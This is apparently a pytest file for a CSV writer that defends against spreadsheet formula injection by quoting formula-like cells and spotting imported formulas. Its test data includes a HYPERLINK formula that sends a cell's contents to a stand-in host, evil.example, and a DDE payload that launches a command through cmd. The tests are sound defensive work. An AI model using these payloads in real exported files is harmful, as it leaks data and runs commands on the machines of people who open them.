"""The one CSV writer (common.spreadsheets): formula cells quoted, imported formulas spotted."""

from __future__ import annotations

import csv
import io

import pytest

from common.spreadsheets import BOM, csv_lines, formula_like, spreadsheet_cell

HYPERLINK_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'


def read_back(lines) -> list[list[str]]:
    text = "".join(lines)
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM))))


def test_a_hyperlink_formula_in_a_name_comes_out_as_quoted_text():
    rows = read_back(csv_lines([["name"], [HYPERLINK_NAME]]))

    assert rows == [["name"], ["'" + HYPERLINK_NAME]]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Post-processor = broken", "Post-processor = broken"),
        ("jo@acme.test", "jo@acme.test"),
        (None, ""),
        (42, "42"),
    ],
)
def test_each_cell_starting_like_a_formula_gets_a_single_quote(value, cell):
    assert spreadsheet_cell(value) == cell


def test_lines_are_streamed_one_row_at_a_time_after_the_byte_order_mark():
    lines = list(csv_lines(iter([["a", "b, c"], ["é", ""]])))

    assert lines == [BOM, 'a,"b, c"\r\n', "é,\r\n"]


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/","x")',
        "@SUM(A1)",
        "+HYPERLINK(1)",
        "-2+3+cmd|' /C calc'!A0",
        "+1+1",
        "-A1",
    ],
)
def test_an_imported_formula_is_spotted(cell):
    assert formula_like(cell)


@pytest.mark.parametrize(
    "cell",
    [
        "+33 1 23 45 67 89",
        "+1 (555) 010-0199",
        "-5",
        "-0.5",
        "-",
        "Acme = Tools",
        "jo@acme.test",
        "",
    ],
)
def test_phone_numbers_negative_numbers_and_plain_text_are_not_formulas(cell):
    assert not formula_like(cell)
